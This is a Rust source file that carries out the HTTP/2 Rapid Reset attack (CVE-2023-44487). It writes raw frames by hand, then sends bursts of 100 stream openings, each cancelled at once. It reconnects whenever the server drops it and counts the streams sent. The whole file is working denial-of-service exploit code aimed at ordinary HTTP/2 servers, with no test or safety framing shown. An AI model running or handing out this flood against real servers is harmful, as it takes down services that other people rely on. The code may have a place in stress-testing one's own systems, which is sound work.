//! A client of HTTP/2 that opens streams and takes them back at once (CVE-2023-44487), as raw frames (RFC 9113): no
//! ordinary library sends them so fast. Whenever it is sent away it comes again.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 0x5;
/// CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Streams of one write.
const AT_ONCE: u32 = 100;

/// Opens and takes back streams until it is told to stop, and counts them.
pub(super) fn reset(address: SocketAddr, key: &str, stop: &AtomicBool, count: &AtomicU64) {
    let head = head(&address.to_string(), &format!("Bearer {key}"));
    while !stop.load(Ordering::Relaxed) {
        // Sent away; the next connection.
        let _ = flood(address, &head, stop, count);
    }
}

fn flood(address: SocketAddr, head: &[u8], stop: &AtomicBool, count: &AtomicU64) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(address)?;
    stream.set_read_timeout(Some(Duration::from_millis(1)))?;
    stream.write_all(PREFACE)?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    let mut next = 1;
    let mut answered = [0; 16 << 10];
    while !stop.load(Ordering::Relaxed) {
        let mut burst = Vec::new();
        for _ in 0..AT_ONCE {
            burst.extend(frame(HEADERS, WHOLE, next, head));
            burst.extend(frame(RST_STREAM, 0, next, &CANCEL));
            next += 2;
        }
        stream.write_all(&burst)?;
        count.fetch_add(AT_ONCE.into(), Ordering::Relaxed);
        // What it says is not wanted, and must not fill the socket.
        match stream.read(&mut answered) {
            Ok(0) => return Ok(()),
            _ => continue,
        }
    }
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A GET of `/` as HPACK (RFC 7541): indexed where the static table has it, else literal and not remembered.
fn head(authority: &str, authorization: &str) -> Vec<u8> {
    let literal = |index: &[u8], value: &str| [index, &[value.len() as u8], value.as_bytes()].concat();
    let mut head = vec![0x82, 0x86, 0x84];
    head.extend(literal(&[0x01], authority));
    head.extend(literal(&[0x0f, 0x08], authorization));
    head
}
